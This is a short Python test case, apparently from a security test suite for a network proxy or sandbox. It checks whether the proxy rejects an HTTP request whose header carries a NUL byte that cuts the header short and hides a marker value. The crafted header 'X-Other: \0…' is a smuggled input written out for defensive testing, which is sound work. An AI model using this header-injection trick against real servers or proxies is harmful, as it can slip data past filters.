# /// attack
# guarantee = "network"
# summary = "Ends a header early by a NUL, as programs in C do."
# reference = "RFC 9110, 5.5"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy control characters" }
# ///

from kit import exchange, judge, target, url

hidden = f"X-Other: \0{target('MARKER')}"
judge(
    exchange(
        "example.org",
        f"GET {url('example.org', '/')} HTTP/1.1\r\nHost: example.org\r\n{hidden}\r\nConnection: close\r\n\r\n".encode(),
    )
)
